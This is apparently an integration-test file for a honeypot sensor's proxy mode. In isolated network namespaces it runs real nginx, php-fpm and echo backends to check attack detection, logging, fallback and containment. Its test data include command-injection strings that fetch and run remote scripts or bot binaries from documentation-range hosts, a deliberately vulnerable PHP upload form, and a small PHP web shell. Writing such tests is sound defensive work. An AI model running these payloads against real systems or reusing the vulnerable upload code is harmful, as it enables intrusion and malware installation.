"""
cases_proxy.py - high-interaction mode (issue 14): services with a backend.

Imported by run.py; every @case here is appended to cases.ALL.

Each case builds its own backend network: a network namespace joined to the host by a veth
pair on a random 10.x.y.0/24 (host .1, backend .2).  The sensor runs on the host, its
services proxy to 10.x.y.2, a private address (allowed), never to loopback (refused).
Backends are real servers: Debian's nginx (nginx-light) for HTTP, a socat or Python echo
server for the raw TCP relay.  The nftables recipe of docs/proxy.md (contrib/hanipo-backend.nft)
is loaded into a backend namespace and must stop new outbound connections while proxied
sessions keep working.
"""
import hashlib
import os
import random
import shutil
import socket
import ssl
import subprocess
import tempfile
import time
import uuid

from harness import HANIPO_BIN, ROOT, T, Service, Skip, free_port, payload_bytes, wait_for
from cases import case, stop_and_read

MARKER = "NGINX-REAL-BACKEND-7f3a9c"


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


class BackendNet:
    """A namespace with a veth pair: host side self.host_ip, namespace side self.ip."""

    def __init__(self, ctx):
        if os.geteuid() != 0:
            raise Skip("not root: cannot create a network namespace")
        need("ip")
        tag = uuid.uuid4().hex[:6]
        self.ns = "hanipo-px-%s" % tag
        self.veth = "hpx%s" % tag           # host side (<= 15 characters)
        a, b = random.randint(100, 250), random.randint(1, 254)
        self.host_ip, self.ip = "10.%d.%d.1" % (a, b), "10.%d.%d.2" % (a, b)
        self.procs = []
        r = subprocess.run(["ip", "netns", "add", self.ns], capture_output=True)
        if r.returncode != 0:
            raise Skip("cannot create a network namespace: %s" % r.stderr.decode().strip())
        ctx.defer(self.cleanup)
        run = lambda *a: subprocess.run(a, check=True, capture_output=True)
        run("ip", "link", "add", self.veth, "type", "veth", "peer", "name", self.veth + "b")
        run("ip", "link", "set", self.veth + "b", "netns", self.ns)
        run("ip", "addr", "add", self.host_ip + "/24", "dev", self.veth)
        run("ip", "link", "set", self.veth, "up")
        self.exec_("ip", "addr", "add", self.ip + "/24", "dev", self.veth + "b")
        self.exec_("ip", "link", "set", self.veth + "b", "up")
        self.exec_("ip", "link", "set", "lo", "up")

    def exec_(self, *args, **kw):
        kw.setdefault("capture_output", True)
        kw.setdefault("check", True)
        return subprocess.run(("ip", "netns", "exec", self.ns) + args, **kw)

    def spawn(self, *args):
        p = subprocess.Popen(("ip", "netns", "exec", self.ns) + args, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.procs.append(p)
        return p

    def wait_port(self, port):
        def up():
            r = self.exec_("/usr/bin/python3", "-c",
                           "import socket; socket.create_connection(('%s', %d), timeout=1).close()" % (self.ip, port),
                           check=False)
            return r.returncode == 0
        wait_for(up, T(10), interval=0.1, what="backend port %d" % port)

    def cleanup(self):
        for p in self.procs:
            if p.poll() is None:
                p.kill()
                p.wait()
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
        subprocess.run(["ip", "link", "del", self.veth], capture_output=True)


class Nginx:
    """Debian's nginx in the backend namespace on ip:8080, with a marker page."""

    def __init__(self, ctx, net, port=8080, php_sock=None):
        need("nginx")
        self.net, self.port = net, port
        self.dir = tempfile.mkdtemp(prefix="hanipo-it-nginx-")
        os.chmod(self.dir, 0o755)
        www = os.path.join(self.dir, "www")
        os.makedirs(www)
        os.makedirs(os.path.join(self.dir, "tmp"))
        with open(os.path.join(www, "index.html"), "w") as f:
            f.write("<html><body>%s</body></html>\n" % MARKER)
        for name in ("a", "b", "c"):
            with open(os.path.join(www, name + ".txt"), "w") as f:
                f.write("file-%s-" % name * (50 if name == "b" else 3) + "\n")
        with open(os.path.join(www, "big.bin"), "wb") as f:
            self.big = os.urandom(700 * 1024)
            f.write(self.big)
        for root, dirs, files in os.walk(self.dir):
            for x in dirs + files:
                os.chmod(os.path.join(root, x), 0o755)
        self.access = os.path.join(self.dir, "access.log")
        conf = os.path.join(self.dir, "nginx.conf")
        t = os.path.join(self.dir, "tmp")
        with open(conf, "w") as f:
            f.write("""daemon off; master_process off; worker_processes 1; user root;
pid %(d)s/nginx.pid; error_log %(d)s/error.log;
events { worker_connections 128; }
http {
  access_log %(d)s/access.log;
  client_body_temp_path %(t)s; proxy_temp_path %(t)s; fastcgi_temp_path %(t)s; uwsgi_temp_path %(t)s;
  scgi_temp_path %(t)s;
  server {
    listen %(ip)s:%(port)d; root %(d)s/www;
    location /echo { return 200 "ua=$http_user_agent xff=$http_x_forwarded_for conn=$http_connection\\n"; }
    %(php)s
  }
}
""" % {"d": self.dir, "t": t, "ip": net.ip, "port": port,
       "php": ("location ~ \\.php$ { include /etc/nginx/fastcgi_params; fastcgi_pass unix:%s; "
               "fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; }" % php_sock) if php_sock else ""})
        self.www = www
        self.proc = net.spawn("nginx", "-c", conf, "-e", os.path.join(self.dir, "error.log"))
        ctx.defer(self.cleanup)
        net.wait_port(port)

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=T(10))

    def access_log(self):
        try:
            with open(self.access, errors="replace") as f:
                return f.read()
        except OSError:
            return ""

    def cleanup(self):
        self.stop()
        shutil.rmtree(self.dir, ignore_errors=True)


ECHO = r"""
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(16)
def serve(c):
    with c:
        while True:
            d = c.recv(65536)
            if not d:
                return
            c.sendall(b"echo:" + d)
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""


def echo_server(net, port=7000):
    net.spawn("/usr/bin/python3", "-c", ECHO, net.ip, str(port))
    net.wait_port(port)


def curl(*args, timeout=20):
    need("curl")
    r = subprocess.run(("curl", "-sS", "--max-time", str(T(timeout))) + args, capture_output=True, timeout=T(timeout + 5))
    return r.returncode, r.stdout.decode(errors="replace"), r.stderr.decode(errors="replace")


def ev(evs, eventid, **kw):
    return [e for e in evs if e["eventid"] == eventid and all(e.get(k) == v for k, v in kw.items())]


def validate(d):
    """Every event of the daemon passes tools/validate-events.py (docs/events.schema.json)."""
    r = subprocess.run([os.path.join(ROOT, "tools", "validate-events.py")] + d.jsonl_files(), capture_output=True,
                       timeout=T(60))
    assert r.returncode == 0, (r.stdout + r.stderr).decode(errors="replace")[-3000:]


def http_service(net, **opts):
    o = {"backend": "%s:8080" % net.ip}
    o.update(opts)
    return Service("web", protocol="http", **o)


@case
def proxy_http_nginx(ctx):
    """HTTP proxy: curl gets the real nginx page; an exploit is classified, logged and relayed;
    pipelined keep-alive requests get their own responses in order; a 700 KiB body is intact."""
    net = BackendNet(ctx)
    ng = Nginx(ctx, net)
    d = ctx.daemon("px-http", [http_service(net)]).start()
    port = d.svc("web").port
    rc, out, err = curl("http://127.0.0.1:%d/" % port)
    assert rc == 0 and MARKER in out, (rc, out, err)
    exploit = "/cgi-bin/;wget%20http://203.0.113.9/mips.sh;sh%20mips.sh"
    rc, out, err = curl("http://127.0.0.1:%d%s" % (port, exploit))
    assert rc == 0 and "404 Not Found" in out, (rc, out, err)
    wait_for(lambda: "/cgi-bin/;wget" in ng.access_log(), T(10), what="the exploit in nginx's access log")
    rc, out, err = curl("-A", "probe/1.0", "http://127.0.0.1:%d/echo" % port)
    assert "ua=probe/1.0 xff= " in out, out            # no X-Forwarded-For unless backend_xff
    rc, out, err = curl("-o", "/dev/stdout", "http://127.0.0.1:%d/big.bin" % port)
    # pipelining: three requests in one segment, three responses in order
    s = socket.create_connection(("127.0.0.1", port), timeout=T(10))
    s.sendall(b"".join(b"GET /%s.txt HTTP/1.1\r\nHost: x\r\n\r\n" % n for n in (b"a", b"b", b"c")))
    got = b""
    deadline = time.monotonic() + T(10)
    while got.count(b"HTTP/1.1 200") < 3 or not got.rstrip().endswith(b"file-c-"):
        assert time.monotonic() < deadline, got
        chunk = s.recv(65536)
        if not chunk:
            break
        got += chunk
    s.close()
    ia, ib, ic = got.find(b"file-a-"), got.find(b"file-b-"), got.find(b"file-c-")
    assert 0 < ia < ib < ic, got
    assert got.count(b"Connection: keep-alive") == 3, got
    d.wait_event(lambda e: e["eventid"] == "http.response" and e.get("status") == 200, count=6)
    evs = stop_and_read(d)
    reqs = ev(evs, "http.request")
    ex = [e for e in reqs if e.get("uri") == exploit]
    assert len(ex) == 1, reqs
    assert "command-injection" in ex[0].get("attack_classes", []), ex[0]
    assert ex[0].get("backend") == "%s:8080" % net.ip and "status" not in ex[0], ex[0]
    resp = ev(evs, "http.response", session=ex[0]["session"])
    assert len(resp) == 1 and resp[0]["status"] == 404 and resp[0]["complete"], resp
    big = [e for e in ev(evs, "http.response") if e.get("response_size") == len(ng.big)]
    assert len(big) == 1 and big[0]["status"] == 200, ev(evs, "http.response")
    urls = [e for e in evs if e["eventid"].startswith("session.file_download") and "203.0.113.9" in e.get("url", "")]
    assert urls and urls[0]["found_in"] == "http", urls
    piped = [e for e in reqs if e.get("uri") in ("/a.txt", "/b.txt", "/c.txt")]
    assert [e["uri"] for e in piped] == ["/a.txt", "/b.txt", "/c.txt"], piped
    assert len({e["session"] for e in piped}) == 1, piped
    assert ev(evs, "proxy.connect", result="ok"), "no proxy.connect"
    assert not ev(evs, "proxy.fallback"), ev(evs, "proxy.fallback")
    validate(d)


class PhpFpm:
    """Debian's php-fpm (8.2) serving the nginx backend over a unix socket in its directory."""

    def __init__(self, ctx, net, dirname):
        self.bin = shutil.which("php-fpm8.2") or (os.path.exists("/usr/sbin/php-fpm8.2") and "/usr/sbin/php-fpm8.2")
        if not self.bin:
            raise Skip("php-fpm8.2 is not installed")
        self.dir = dirname
        self.sock = os.path.join(dirname, "php.sock")
        conf = os.path.join(dirname, "php-fpm.conf")
        with open(conf, "w") as f:
            f.write("[global]\npid = %(d)s/php-fpm.pid\nerror_log = %(d)s/php-fpm.log\ndaemonize = no\n"
                    "[www]\nuser = root\ngroup = root\nlisten = %(s)s\nlisten.owner = root\nlisten.mode = 0666\n"
                    "pm = static\npm.max_children = 2\n" % {"d": dirname, "s": self.sock})
        self.proc = net.spawn(self.bin, "-R", "-F", "-y", conf)
        ctx.defer(self.stop)
        wait_for(lambda: os.path.exists(self.sock), T(10), interval=0.1, what="php-fpm socket")

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=T(10))


UPLOAD_PHP = """<?php
if (isset($_FILES['f'])) {
    $to = __DIR__ . '/uploads/' . basename($_FILES['f']['name']);
    echo move_uploaded_file($_FILES['f']['tmp_name'], $to) ? "uploaded " . basename($to) : "failed";
} else {
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>';
}
"""
WEBSHELL = b"<?php echo 'SHELL-OUT:' . php_uname('n') . ':' . getmypid(); if (isset($_GET['cmd'])) { echo ':' . $_GET['cmd']; } ?>"


@case
def proxy_http_php_webshell(ctx):
    """What the high-interaction mode is for: a web shell uploaded through a vulnerable form of a real
    nginx + php-fpm backend, then called; the backend runs it, hanipo keeps the file and sees the calls."""
    net = BackendNet(ctx)
    tmp = tempfile.mkdtemp(prefix="hanipo-it-php-")
    os.chmod(tmp, 0o755)
    ctx.defer(lambda: shutil.rmtree(tmp, ignore_errors=True))
    php = PhpFpm(ctx, net, tmp)
    ng = Nginx(ctx, net, php_sock=php.sock)
    os.makedirs(os.path.join(ng.www, "uploads"))
    os.chmod(os.path.join(ng.www, "uploads"), 0o777)
    with open(os.path.join(ng.www, "upload.php"), "w") as f:
        f.write(UPLOAD_PHP)
    os.chmod(os.path.join(ng.www, "upload.php"), 0o644)
    d = ctx.daemon("px-php", [http_service(net)]).start()
    port = d.svc("web").port
    rc, out, err = curl("http://127.0.0.1:%d/upload.php" % port)
    assert rc == 0 and 'enctype="multipart/form-data"' in out, (rc, out, err, open(os.path.join(tmp, "php-fpm.log")).read()[-500:])
    shell = os.path.join(tmp, "wso.php")
    with open(shell, "wb") as f:
        f.write(WEBSHELL)
    rc, out, err = curl("-F", "f=@%s" % shell, "http://127.0.0.1:%d/upload.php" % port)
    assert rc == 0 and out == "uploaded wso.php", (rc, out, err)
    assert open(os.path.join(ng.www, "uploads", "wso.php"), "rb").read() == WEBSHELL
    rc, out, err = curl("http://127.0.0.1:%d/uploads/wso.php?cmd=id" % port)
    assert rc == 0 and out.startswith("SHELL-OUT:") and out.endswith(":id"), (rc, out, err)
    d.wait_event(lambda e: e["eventid"] == "http.response" and e.get("status") == 200, count=3)
    evs = stop_and_read(d)
    sha = hashlib.sha256(WEBSHELL).hexdigest()
    up = [e for e in ev(evs, "session.file_upload") if e.get("shasum", e.get("sha256")) == sha]
    assert up and up[0]["filename"] == "wso.php" and up[0].get("protocol_detail") == "http", ev(evs, "session.file_upload")
    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
        assert f.read() == WEBSHELL
    call = [e for e in ev(evs, "http.request") if e.get("uri") == "/uploads/wso.php?cmd=id"]
    assert call and "webshell" in call[0].get("attack_classes", []), call
    assert call[0].get("backend") == "%s:8080" % net.ip, call[0]
    assert not ev(evs, "proxy.fallback"), ev(evs, "proxy.fallback")
    validate(d)


@case
def proxy_https_nginx(ctx):
    """HTTPS on the proxied service: TLS ends at hanipo (JA3/JA4 logged), the page is nginx's;
    backend_xff = true adds X-Forwarded-For."""
    need("openssl")
    net = BackendNet(ctx)
    ng = Nginx(ctx, net)
    d = ctx.daemon("px-https", [http_service(net, backend_xff="true")]).start()
    port = d.svc("web").port
    rc, out, err = curl("-k", "https://127.0.0.1:%d/" % port)
    assert rc == 0 and MARKER in out, (rc, out, err)
    r = subprocess.run(["curl", "-sSk", "--max-time", str(T(20)), "https://127.0.0.1:%d/big.bin" % port],
                       capture_output=True, timeout=T(30))
    assert r.stdout == ng.big, (len(r.stdout), r.stderr)
    rc, out, err = curl("-k", "https://127.0.0.1:%d/echo" % port)
    assert "xff=127.0.0.1 " in out, out
    r = subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, "-quiet", "-ign_eof"],
                       input=b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", capture_output=True,
                       timeout=T(20))
    assert MARKER.encode() in r.stdout, r
    d.wait_event(lambda e: e["eventid"] == "http.response", count=4)
    evs = stop_and_read(d)
    hellos = ev(evs, "tls.client_hello")
    assert len(hellos) >= 4 and all(h.get("ja3") and h.get("ja4") for h in hellos), hellos
    reqs = ev(evs, "http.request", tls=True)
    assert len(reqs) == 4, reqs
    assert all(e["status"] == 200 for e in ev(evs, "http.response")), ev(evs, "http.response")


@case
def proxy_tcp_relay(ctx):
    """protocol = trap + backend: a plain TCP proxy, recorded as proxy.data both ways; URLs in
    what the client sent reach the extractor; backend_max_bytes cuts the transcript once."""
    net = BackendNet(ctx)
    echo_server(net)
    d = ctx.daemon("px-tcp", [Service("raw", protocol="trap", backend="%s:7000" % net.ip,
                                      backend_max_bytes="300")]).start()
    port = d.svc("raw").port
    s = socket.create_connection(("127.0.0.1", port), timeout=T(10))
    msg = b"cd /tmp; wget http://198.51.100.7/bot.arm7; chmod +x bot.arm7\n"
    s.sendall(msg)
    got = b""
    while len(got) < len(msg) + 5:
        got += s.recv(4096)
    assert got == b"echo:" + msg, got
    s.sendall(b"A" * 400)
    total = len(got)
    got = b""
    while got.count(b"A") < 400:               # the echo server answers per read: "echo:" each time
        got += s.recv(4096)
    total += len(got)
    s.close()
    d.wait_event(lambda e: e["eventid"] == "proxy.closed")
    evs = stop_and_read(d)
    ins = ev(evs, "proxy.data", direction="in")
    outs = ev(evs, "proxy.data", direction="out")
    assert ins and payload_bytes(ins[0]) == msg and ins[0]["offset"] == 0, ins
    assert outs and payload_bytes(outs[0]) == b"echo:" + msg, outs
    rec = sum(e["length"] for e in ins + outs)
    assert rec == 300, (rec, ins, outs)
    assert len(ev(evs, "proxy.truncated")) == 1, ev(evs, "proxy.truncated")
    closed = ev(evs, "proxy.closed")
    assert closed and closed[0]["bytes_to_backend"] == len(msg) + 400, closed
    assert closed[0]["bytes_from_backend"] == total, (total, closed)
    urls = [e for e in evs if e["eventid"].startswith("session.file_download") and "198.51.100.7" in e.get("url", "")]
    assert urls and urls[0]["found_in"] == "proxy", urls
    assert ev(evs, "session.closed") and not ev(evs, "trap.payload")
    validate(d)


@case
def proxy_fallback_backend_down(ctx):
    """Backend down: redis falls back to the redis emulation, http to the rule engine
    (nginx stopped in the middle), each with proxy.fallback; the client sees a working service."""
    net = BackendNet(ctx)
    ng = Nginx(ctx, net)
    d = ctx.daemon("px-down", [http_service(net),
                               Service("db", protocol="redis", backend="%s:6399" % net.ip)]).start()
    port = d.svc("web").port
    rc, out, err = curl("http://127.0.0.1:%d/" % port)
    assert MARKER in out, out
    ng.stop()
    rc, out, err = curl("-i", "http://127.0.0.1:%d/" % port)
    assert rc == 0 and MARKER not in out and out.startswith("HTTP/1.1 200"), out
    s = socket.create_connection(("127.0.0.1", d.svc("db").port), timeout=T(10))
    s.sendall(b"PING\r\n")
    assert s.recv(100) == b"+PONG\r\n"
    s.close()
    d.wait_event(lambda e: e["eventid"] == "proxy.fallback", count=2)
    evs = stop_and_read(d)
    fb = ev(evs, "proxy.fallback")
    assert {(e["service"], e["reason"], e["fallback"]) for e in fb} == {
        ("web", "connect-refused", "http"), ("db", "connect-refused", "redis")}, fb
    assert ev(evs, "command.input", service="db", command="ping"), "redis emulation did not answer"
    web = [e for e in ev(evs, "http.request") if e["session"] == fb[0]["session"] or e["session"] == fb[1]["session"]]
    assert web and web[0].get("rule"), web                 # answered by the rules
    validate(d)


@case
def proxy_budget_fallback(ctx):
    """backend_budget = 2: the third session of a source is not proxied but emulated (trap)."""
    net = BackendNet(ctx)
    echo_server(net)
    d = ctx.daemon("px-budget", [Service("raw", protocol="trap", backend="%s:7000" % net.ip,
                                         backend_budget="2")]).start()
    port = d.svc("raw").port
    answers = []
    for i in range(3):
        s = socket.create_connection(("127.0.0.1", port), timeout=T(10))
        s.sendall(b"hello %d\n" % i)
        s.settimeout(T(2) if i == 2 else T(10))
        try:
            answers.append(s.recv(100))
        except socket.timeout:
            answers.append(None)
        s.close()
    assert answers[:2] == [b"echo:hello 0\n", b"echo:hello 1\n"] and answers[2] is None, answers
    d.wait_event(lambda e: e["eventid"] == "trap.payload")
    evs = stop_and_read(d)
    fb = ev(evs, "proxy.fallback")
    assert len(fb) == 1 and fb[0]["reason"] == "budget" and fb[0]["fallback"] == "trap", fb
    tp = ev(evs, "trap.payload", session=fb[0]["session"])
    assert tp and payload_bytes(tp[0]) == b"hello 2\n", tp   # every byte from the first


def check_config(ctx, text):
    fd, path = tempfile.mkstemp(suffix=".ini")
    with os.fdopen(fd, "w") as f:
        f.write(text)
    ctx.defer(lambda: os.unlink(path))
    r = subprocess.run([HANIPO_BIN, "check", "-c", path], capture_output=True, timeout=T(20))
    return r.returncode, (r.stdout + r.stderr).decode(errors="replace")


CONF = """[sensor]
data_dir = /tmp/hanipo-px-check
%(sensor)s
[service web]
protocol = http
tcp_ports = %(port)d
backend = %(backend)s
[output jsonl]
"""


@case
def proxy_refused_backends(ctx):
    """Loopback, link-local (metadata), multicast, an own address, the dashboard's address and a
    management range are refused at load with a clear error; a private backend is accepted."""
    net = BackendNet(ctx)
    port = free_port()
    for backend, sensor, why in (("127.0.0.1:80", "", "loopback"),
                                 ("[::1]:80", "", "loopback"),
                                 ("169.254.169.254:80", "", "link-local"),
                                 ("224.0.0.1:80", "", "multicast"),
                                 ("0.0.0.0:80", "", "unspecified"),
                                 ("%s:80" % net.host_ip, "", "own-address"),
                                 ("%s:80" % net.ip, "management = 10.0.0.0/8", "management")):
        rc, out = check_config(ctx, CONF % {"port": port, "backend": backend, "sensor": sensor})
        assert rc != 0 and ("refused: %s address" % why) in out and ":7:" in out, (backend, rc, out)
    rc, out = check_config(ctx, CONF % {"port": port, "backend": "%s:80" % net.ip, "sensor": ""})
    assert rc == 0, out
    rc, out = check_config(ctx, CONF % {"port": port, "backend": "%s:80" % net.ip,
                                        "sensor": ""} + "\n[dashboard]\nenabled = true\nbind = %s\n" % net.ip)
    assert rc != 0 and "refused: dashboard address" in out, out
    rc, out = check_config(ctx, CONF % {"port": port, "backend": "10.1.2.3", "sensor": ""})
    assert rc != 0 and "HOST:PORT" in out, out


@case
def proxy_containment_nft(ctx):
    """contrib/hanipo-backend.nft in the backend namespace: the backend cannot open a connection
    to the outside (a listener on the host), while proxied HTTP keeps working."""
    need("nft", "curl")
    net = BackendNet(ctx)
    Nginx(ctx, net)
    lst = socket.socket()
    lst.bind((net.host_ip, 0))
    lst.listen(4)
    ctx.defer(lst.close)
    outside = "http://%s:%d/" % (net.host_ip, lst.getsockname()[1])
    # without the rules the backend reaches the listener (the test can fail)
    r = net.exec_("curl", "-s", "-o", "/dev/null", "--max-time", "3", outside, check=False)
    c, _ = lst.accept()
    c.close()
    r = net.exec_("nft", "-f", os.path.join(ROOT, "contrib", "hanipo-backend.nft"), check=False)
    assert r.returncode == 0, r.stderr.decode()
    r = net.exec_("curl", "-s", "-o", "/dev/null", "--max-time", "3", outside, check=False)
    assert r.returncode != 0, "the backend still reaches the outside"
    lst.settimeout(0.5)
    try:
        lst.accept()
        raise AssertionError("a connection from the backend got through")
    except socket.timeout:
        pass
    d = ctx.daemon("px-nft", [http_service(net)]).start()
    rc, out, err = curl("http://127.0.0.1:%d/" % d.svc("web").port)
    assert rc == 0 and MARKER in out, (rc, out, err)
    evs = stop_and_read(d)
    assert ev(evs, "http.response", status=200), evs


@case
def proxy_relay_bulk_and_timeout(ctx):
    """The relay carries 3 MiB each way with back-pressure and a client half-close (the backend
    sees EOF, its close ends the session); a backend that never answers the SYN falls back
    after backend_timeout with the client's early bytes intact."""
    import threading
    need("nft")
    net = BackendNet(ctx)
    echo_server(net)
    r = net.exec_("nft", "-f", "-", input=b"table inet t {\n chain i {\n  type filter hook input priority 0;\n"
                                           b"  tcp dport 7001 drop\n }\n}\n", check=False)
    assert r.returncode == 0, r.stderr
    d = ctx.daemon("px-bulk", [Service("raw", protocol="trap", backend="%s:7000" % net.ip, max_input="8M",
                                       backend_max_bytes="64K"),
                               Service("slow", protocol="trap", backend="%s:7001" % net.ip,
                                       backend_timeout="300ms")]).start()
    blob = os.urandom(3 << 20)
    s = socket.create_connection(("127.0.0.1", d.svc("raw").port), timeout=T(30))

    def send():
        s.sendall(blob)
        s.shutdown(socket.SHUT_WR)
    t = threading.Thread(target=send, daemon=True)
    t.start()
    got = bytearray()
    while True:
        chunk = s.recv(1 << 16)
        if not chunk:
            break
        got += chunk
    t.join(T(30))
    s.close()
    stripped = bytes(got).replace(b"echo:", b"")
    assert len(stripped) == len(blob) and stripped == blob, (len(got), len(stripped))
    s = socket.create_connection(("127.0.0.1", d.svc("slow").port), timeout=T(10))
    s.sendall(b"early bytes\n")
    time.sleep(1.0)
    s.close()
    d.wait_event(lambda e: e["eventid"] == "trap.payload" and e["service"] == "slow")
    evs = stop_and_read(d)
    closed = ev(evs, "proxy.closed", service="raw")
    assert closed and closed[0]["bytes_to_backend"] == len(blob) and closed[0]["bytes_from_backend"] == len(got), closed
    sc = ev(evs, "session.closed", service="raw")
    assert sc and sc[0]["reason"] == "backend_closed", sc
    assert sum(e["length"] for e in ev(evs, "proxy.data", service="raw")) == 64 * 1024
    fb = ev(evs, "proxy.fallback", service="slow")
    assert len(fb) == 1 and fb[0]["reason"] == "connect-timeout", fb
    pc = ev(evs, "proxy.connect", service="slow")
    assert pc and pc[0]["result"] == "connect-timeout" and pc[0]["connect_ms"] >= 250, pc
    tp = ev(evs, "trap.payload", service="slow")
    assert payload_bytes(tp[0]) == b"early bytes\n", tp
    validate(d)
